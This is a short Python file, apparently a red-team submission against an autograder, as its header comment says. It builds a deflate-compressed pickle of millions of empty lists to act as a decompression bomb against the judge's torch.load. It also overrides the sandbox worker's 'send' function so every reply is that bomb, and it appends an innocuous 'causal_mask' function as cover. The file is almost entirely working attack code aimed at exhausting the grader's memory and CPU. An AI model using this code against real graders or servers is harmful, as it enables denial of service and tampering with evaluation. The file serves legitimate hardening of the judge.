# Issue 20's red team, round 11: a reply archive whose data.pkl is DEFLATED. The judge read the
# pickle's size from the zip directory only where every entry was stored, and counted the frame's
# length otherwise; but torch.load inflates a compressed entry, about a million bytes of pickle
# per KiB of frame: a list of __LISTS__ empty lists (1 byte of pickle each, ~80 bytes each once
# built in the judge) in a frame of a few KiB. At 50 M lists: 4.3 GB and 43 s of the judge's CPU.
import io
import sys
import zipfile

import torch

worker = sys.modules["autograder.sandbox.inside.worker"]


def _bomb():
    body = b"\x80\x02](" + b"]" * int("__LISTS__") + b"e."
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", compression=zipfile.ZIP_DEFLATED, compresslevel=9) as z:
        z.writestr("archive/data.pkl", body)
        z.writestr("archive/version", "3\n")
        z.writestr("archive/byteorder", "little")
    return buf.getvalue()


def send(chan, message):
    chan.send(_bomb())


worker.send = send


def causal_mask(seq_len, device=None):
    return torch.ones(seq_len, seq_len, dtype=torch.bool, device=device).tril()
